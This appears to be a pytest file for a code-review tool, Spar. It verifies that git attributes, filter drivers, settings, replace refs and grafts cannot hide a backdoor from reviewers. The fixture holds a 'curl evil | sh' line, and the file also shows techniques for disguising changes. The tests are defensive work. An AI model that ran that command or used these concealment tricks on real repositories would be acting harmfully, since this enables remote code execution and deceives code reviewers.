"""No attribute, filter, driver or setting of the reviewed repository changes what Spar shows.

A change that adds `.gitattributes` beside a backdoor used to make packet.md show only
"Binary files a/calc.py and b/calc.py differ", and coverage count calc.py as read inline.
Each case below is one way a change (or the repository's own `.git`) could try it.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from spar import git
from spar.round.context import context_from_git
from spar.round.packet import binary_paths, inline_paths
from spar.workspace.build import build_workspace
from tests.gitrepo import commit, make_repo
from tests.gitrepo import git as run_git
from tests.runsetup import make_setup, result

BEFORE = "def divide(a, b):\n    return a / b\n"
BACKDOOR = '    import os; os.system("curl evil | sh")\n'
AFTER = "def divide(a, b):\n" + BACKDOOR + "    return a / b\n"
HIDE = "sed -e s/os.system/print/"  # a program that would show the backdoor as harmless

# (.gitattributes of the change, settings in the repository's .git/config, .git/info/attributes)
CASES = {
    "-diff": ("calc.py -diff\n", {}, ""),
    "binary": ("calc.py binary\n", {}, ""),
    "diff driver": ("calc.py diff=hide\n", {"diff.hide.binary": "true", "diff.hide.textconv": HIDE,
                                             "diff.hide.command": "true", "diff.hide.xfuncname": "^(EVIL).*$"}, ""),
    "export-ignore": ("calc.py export-ignore\n", {}, ""),
    "eol and text": ("* text=auto\ncalc.py text eol=crlf\n", {"core.autocrlf": "true"}, ""),
    "filter": ("calc.py filter=hide\n", {"filter.hide.clean": HIDE, "filter.hide.smudge": HIDE,
                                          "filter.hide.required": "true"}, ""),
    "info/attributes": ("", {}, "calc.py -diff\n"),
    "repository settings": ("", {"core.bigFileThreshold": "1", "diff.context": "0", "diff.noprefix": "true",
                                 "diff.external": "true", "diff.orderFile": "/dev/null"}, ""),
}


def _change(tmp_path: Path, attributes: str, config: dict[str, str], info: str) -> tuple[Path, str, str]:
    repo = make_repo(tmp_path, {"calc.py": BEFORE, "README": "calc\n"})
    base = run_git(repo, "rev-parse", "HEAD").strip()
    files = {"calc.py": AFTER} | ({".gitattributes": attributes} if attributes else {})
    head = commit(repo, files, message="add a feature")
    # set after the commits, so the committed bytes are the plain text; the work tree is
    # checked out again through them (a smudge filter rewrites calc.py on disk)
    for key, value in config.items():
        run_git(repo, "config", key, value)
    if info:
        (repo / ".git" / "info").mkdir(exist_ok=True)
        (repo / ".git" / "info" / "attributes").write_text(info, encoding="utf-8")
    (repo / "calc.py").unlink()
    run_git(repo, "checkout", "--", "calc.py")
    return repo, base, head


@pytest.mark.parametrize("case", list(CASES))
def test_the_change_cannot_change_how_it_is_shown(tmp_path, case):
    repo, base, head = _change(tmp_path, *CASES[case])
    patch = git.diff(repo, base, head)
    assert b"+" + BACKDOOR.encode() in patch
    assert b"Binary files" not in patch and b"diff --git a/calc.py b/calc.py\n" in patch
    assert b"@@ -1,2 +1,3 @@\n def divide(a, b):\n" in patch  # git's own hunk header, three lines of context
    limited = git.diff_with_stat(repo, base, head, 1 << 20)
    assert limited.patch == patch and re.search(r"calc\.py +\| 1 \+\n", limited.stat)
    assert git.diff_stat(repo, base, head) == limited.stat
    changed = {f.path: (f.added, f.removed) for f in git.changed_files(repo, base, head)}
    assert changed["calc.py"] == (1, 0)
    assert "calc.py" in inline_paths(patch) and not binary_paths(patch)
    assert "+" + BACKDOOR.rstrip("\n") in git.line_diff(repo, base, head)
    # the copies hold the committed bytes, whatever a filter or eol setting makes of the work tree
    build_workspace(repo, base, head, tmp_path / "ws")
    assert (tmp_path / "ws" / "head" / "calc.py").read_text(encoding="utf-8") == AFTER
    assert git.read_blobs(repo, [run_git(repo, "rev-parse", f"{head}:calc.py").strip()]) == {
        run_git(repo, "rev-parse", f"{head}:calc.py").strip(): AFTER.encode()}


def test_the_user_configuration_cannot_either(tmp_path, monkeypatch):
    """The user's global attributes file and settings are not read either."""
    repo, base, head = _change(tmp_path, "", {}, "")
    attributes = tmp_path / "attributes"
    attributes.write_text("*.py -diff\n", encoding="utf-8")
    config = tmp_path / "gitconfig"
    config.write_text(f"[core]\n\tattributesFile = {attributes}\n[diff]\n\tcontext = 0\n", encoding="utf-8")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))  # git/attributes there too
    (tmp_path / "git").mkdir()
    (tmp_path / "git" / "attributes").write_text("*.py binary\n", encoding="utf-8")
    patch = git.diff(repo, base, head)
    assert b"+" + BACKDOOR.encode() in patch and b"@@ -1,2 +1,3 @@" in patch


def test_a_replace_ref_does_not_change_what_is_read(tmp_path):
    repo, base, head = _change(tmp_path, "", {}, "")
    blob = run_git(repo, "rev-parse", f"{head}:calc.py").strip()
    harmless = run_git(repo, "hash-object", "-w", "--stdin", input=BEFORE.encode()).strip()
    run_git(repo, "replace", blob, harmless)
    assert b"+" + BACKDOOR.encode() in git.diff(repo, base, head)
    assert git.read_blobs(repo, [blob])[blob] == AFTER.encode()
    assert dict(git.stream_blobs(repo, [blob]))[blob] == AFTER.encode()


def test_a_file_that_is_binary_in_fact_is_said_so_and_not_counted_as_read(tmp_path):
    repo = make_repo(tmp_path, {"calc.py": BEFORE})
    base = run_git(repo, "rev-parse", "HEAD").strip()
    head = commit(repo, {"calc.py": AFTER, "blob.bin": b"\x00\x01backdoor\x00"}, message="binary")
    patch = git.diff(repo, base, head)
    assert b"Binary files /dev/null and b/blob.bin differ" in patch
    assert binary_paths(patch) == {"blob.bin"}
    assert inline_paths(patch) == {"calc.py"}
    changed = {f.path: f.added for f in git.changed_files(repo, base, head)}
    assert changed == {"blob.bin": None, "calc.py": 1}


def test_revisions_by_name_still_work(tmp_path):
    repo, base, head = _change(tmp_path, "", {}, "")
    assert git.diff(repo, "HEAD~1", "HEAD") == git.diff(repo, base, head)
    assert os.listdir(repo / ".git" / "refs" / "heads") == ["main"]  # nothing added to the repository


@pytest.mark.slow
def test_a_round_shows_the_code_a_gitattributes_line_would_hide(tmp_path):
    """The reproduction end to end: `calc.py -diff` beside a backdoor, and a file binary in fact."""
    s = make_setup(tmp_path)
    s.configure([s.answer_reviewer("alpha", result(findings=[]))])
    head = commit(s.repo, {".gitattributes": "calc.py -diff\n", "calc.py": AFTER, "blob.bin": b"\0backdoor\0"},
                  message="feature")
    proc = s.run("--base", s.head, "--head", head)
    assert proc.returncode == 0, proc.stderr.decode()
    packet = (s.repo / "reviews" / "r1" / "packet.md").read_text(encoding="utf-8")
    assert "+" + BACKDOOR in packet and "Binary files a/calc.py" not in packet
    assert ("Shown as binary, so no text of theirs is above (git found a NUL byte in them): `blob.bin`."
            in packet)
    rj = json.loads((s.repo / "reviews" / "r1" / "round.json").read_text(encoding="utf-8"))
    assert "calc.py" in rj["inline_files"] and "blob.bin" not in rj["inline_files"]
    assert rj["unseen"] == ["blob.bin"]


@pytest.mark.parametrize("key", ["clean", "process"])
def test_worktree_takes_the_files_as_they_are_whatever_the_repository_filters(tmp_path, key):
    """--worktree's commit: a filter driver the repository's own configuration defines (which
    whoever wrote the change could write too) does not rewrite what the reviewers get."""
    repo = make_repo(tmp_path, {"calc.py": BEFORE, ".gitattributes": "calc.py filter=hide\n"})
    parent = run_git(repo, "rev-parse", "HEAD").strip()
    run_git(repo, "config", f"filter.hide.{key}", HIDE if key == "clean" else "false")
    run_git(repo, "config", "filter.hide.required", "true")
    (repo / "calc.py").write_text(AFTER, encoding="utf-8")
    made = git.snapshot_worktree(repo, parent)
    blob = run_git(repo, "rev-parse", f"{made.commit}:calc.py").strip()
    assert git.read_blobs(repo, [blob])[blob] == AFTER.encode()
    assert b"+" + BACKDOOR.encode() in git.diff(repo, parent, made.commit)


# Every attribute a change could set on its backdoor: none may move it behind a long file
# (out of packet.md when the diff is cut) or change how it is shown.
HOSTILE_ATTRIBUTES = ("calc.py linguist-generated linguist-vendored linguist-documentation -diff binary "
                      "export-ignore diff=hide merge=ours -text whitespace=-trailing\n"
                      "zz_table.txt -linguist-generated\n")
TABLE = "".join(f"row {n:07d} of a long table\n" for n in range(30_000))  # past the packet's limit


def _packet_rows_and_sections(packet: str) -> tuple[list[str], list[str]]:
    listing = packet.split("### Changed files", 1)[1].split("### Diff", 1)[0]
    rows = [line for line in listing.splitlines() if line.startswith("- ")]
    diff = packet.split("### Diff", 1)[1]
    return rows, re.findall(r"^diff --git a/(\S+) ", diff, flags=re.M)


@pytest.mark.slow
@pytest.mark.parametrize("where", ["added by the change", "already in the base", "changed by the change"])
def test_the_change_cannot_arrange_its_own_packet(tmp_path, where):
    """A change whose diff is cut: its backdoor (first in git's order) stays first in the
    packet's list and diff, whatever `.gitattributes` of the base or the head says of it."""
    s = make_setup(tmp_path)
    if where != "added by the change":
        base_attributes = HOSTILE_ATTRIBUTES if where == "already in the base" else "*.md text\n"
        s.head = commit(s.repo, {".gitattributes": base_attributes}, message="attributes")
    change = {"calc.py": AFTER, "zz_table.txt": TABLE}
    if where != "already in the base":
        change[".gitattributes"] = HOSTILE_ATTRIBUTES
    head = commit(s.repo, change, message="feature")
    s.configure([s.answer_reviewer("alpha", result(findings=[]))])
    proc = s.run("--base", s.head, "--head", head)
    assert proc.returncode == 0, proc.stderr.decode()
    packet = (s.repo / "reviews" / "r1" / "packet.md").read_text(encoding="utf-8")
    rows, sections = _packet_rows_and_sections(packet)
    assert [row.split("`")[1] for row in rows if "`.gitattributes`" not in row] == ["calc.py", "zz_table.txt"]
    assert [name for name in sections if name != ".gitattributes"] == ["calc.py", "zz_table.txt"]
    assert "+" + BACKDOOR in packet and "(generated or vendored)" not in packet
    rj = json.loads((s.repo / "reviews" / "r1" / "round.json").read_text(encoding="utf-8"))
    assert "calc.py" in rj["inline_files"] and rj["unseen"] == ["zz_table.txt"]


def _decoy(repo: Path, base: str, head: str, swap: str) -> str:
    """A replace ref that swaps the head's commit, its tree or its calc.py for a harmless
    decoy (git shows the decoy wherever replace refs are honoured); returns the decoy's ID."""
    blob = run_git(repo, "rev-parse", f"{head}:calc.py").strip()
    harmless = run_git(repo, "hash-object", "-w", "--stdin", input=BEFORE.replace("a / b", "a // b").encode()).strip()
    readme = run_git(repo, "rev-parse", f"{head}:README").strip()
    tree = run_git(repo, "mktree", input=f"100644 blob {readme}\tREADME\n100644 blob {harmless}\tcalc.py\n".encode())
    tree = tree.strip()
    decoys = {"blob": (blob, harmless), "tree": (run_git(repo, "rev-parse", f"{head}^{{tree}}").strip(), tree)}
    if swap == "commit":
        older = commit(repo, {"README": "an unrelated commit\n"}, message="elsewhere")
        run_git(repo, "reset", "-q", "--hard", head)
        decoy = run_git(repo, "commit-tree", tree, "-p", older, "-m", "decoy").strip()
        decoys["commit"] = (head, decoy)
    original, decoy = decoys[swap]
    run_git(repo, "replace", "-f", original, decoy)
    return decoy


@pytest.mark.parametrize("swap", ["commit", "tree", "blob"])
def test_a_replace_ref_cannot_make_the_copies_lie(tmp_path, swap):
    """The copies, the judge's view of the head and the packet's diff all read the objects
    the commit names, never what a replace ref puts in their place."""
    repo, base, head = _change(tmp_path, "", {}, "")
    _decoy(repo, base, head, swap)
    assert "a // b" in run_git(repo, "show", f"{head}:calc.py")  # git itself shows the decoy
    build_workspace(repo, base, head, tmp_path / "ws")
    assert (tmp_path / "ws" / "head" / "calc.py").read_text(encoding="utf-8") == AFTER
    real_blob = run_git(repo, "--no-replace-objects", "rev-parse", f"{head}:calc.py").strip()
    assert {e.path: e.sha for e in git.ls_tree(repo, head)}["calc.py"] == real_blob
    assert git.tree_of(repo, head) == run_git(repo, "--no-replace-objects", "rev-parse", f"{head}^{{tree}}").strip()
    ctx = context_from_git(repo, base, head, [], [], [])
    assert ctx.read_head_blob("calc.py") == AFTER.encode()
    assert b"+" + BACKDOOR.encode() in git.diff(repo, base, head)
    assert git.default_base(repo, head) == base  # the parent the commit names, not the decoy's


def test_grafts_do_not_choose_the_base(tmp_path):
    """An `info/grafts` line (git's older way to lie about parents) is not read either."""
    repo, base, head = _change(tmp_path, "", {}, "")
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "grafts").write_text(f"{head}\n", encoding="utf-8")  # head without parents
    assert git.default_base(repo, head) == base
    assert git.resolve_commit(repo, "HEAD~1") == base


@pytest.mark.slow
def test_a_round_copies_and_shows_the_commit_a_replace_ref_hides(tmp_path):
    """The reproduction end to end: a replace ref swaps the head commit for a decoy; the
    round's copy and its packet both hold the real change."""
    s = make_setup(tmp_path)
    s.configure([s.answer_reviewer("alpha", result(findings=[]))])
    head = commit(s.repo, {"calc.py": AFTER}, message="feature")
    tree = run_git(s.repo, "rev-parse", f"{s.head}^{{tree}}").strip()
    decoy = run_git(s.repo, "commit-tree", tree, "-p", s.head, "-m", "decoy").strip()
    run_git(s.repo, "replace", head, decoy)
    proc = s.run("--base", s.head, "--head", head)
    assert proc.returncode == 0, proc.stderr.decode()
    packet = (s.repo / "reviews" / "r1" / "packet.md").read_text(encoding="utf-8")
    assert "+" + BACKDOOR in packet
    assert (s.repo / "reviews" / "r1" / "workspace" / "head" / "calc.py").read_text(encoding="utf-8") == AFTER
